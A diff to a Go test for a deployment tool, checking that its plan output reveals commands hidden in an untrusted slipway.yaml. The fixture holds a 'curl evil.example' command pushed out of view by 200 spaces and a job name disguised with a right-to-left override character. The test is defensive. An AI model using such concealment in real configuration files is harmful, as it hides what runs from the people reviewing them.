@@ -6,17 +6,19 @@ import (
 	"testing"
 )
 
-// TestPlanShowsWhatAStrangersFileRuns: whoever applies a slipway.yaml of somebody else's sees all that it starts, however it tries to
-// hide that: far to the right, or behind characters that show nothing.
+// TestPlanShowsWhatAStrangersFileRuns: whoever applies a slipway.yaml of somebody else's sees all that it starts,
+// however it tries to hide that: far to the right, or behind characters that show nothing.
 func TestPlanShowsWhatAStrangersFileRuns(t *testing.T) {
-	text := sandboxStack + "service:\n  release: \"sh -c 'true" + strings.Repeat(" ", 200) + "curl evil.example'\"\n  user: \"101\"\n" +
+	text := sandboxStack + "service:\n  release: \"sh -c 'true" + strings.Repeat(" ", 200) +
+		"curl evil.example'\"\n  user: \"101\"\n" +
 		"schedule:\n  jobs:\n    - {name: report, command: \"python \\u202Egnp.exe\", cron: \"0 3 * * ? *\"}\n"
 	code, out, errs, _ := inSandbox(t, text, "", "plan")
 	if code != 0 {
 		t.Fatalf("plan ended %d\n%s%s", code, out, errs)
 	}
 	_, will, found := strings.Cut(out+errs, "WHAT WILL RUN")
-	for _, want := range []string{"[200 blanks] curl evil.example", "job report: ", "0 3 * * ? *", "registry.example.com/shop:1.0", "123456789012"} {
+	for _, want := range []string{"[200 blanks] curl evil.example", "job report: ", "0 3 * * ? *",
+		"registry.example.com/shop:1.0", "123456789012"} {
 		if !found || !strings.Contains(will, want) {
 			t.Errorf("the plan does not say %q:\n%s", want, will)
 		}
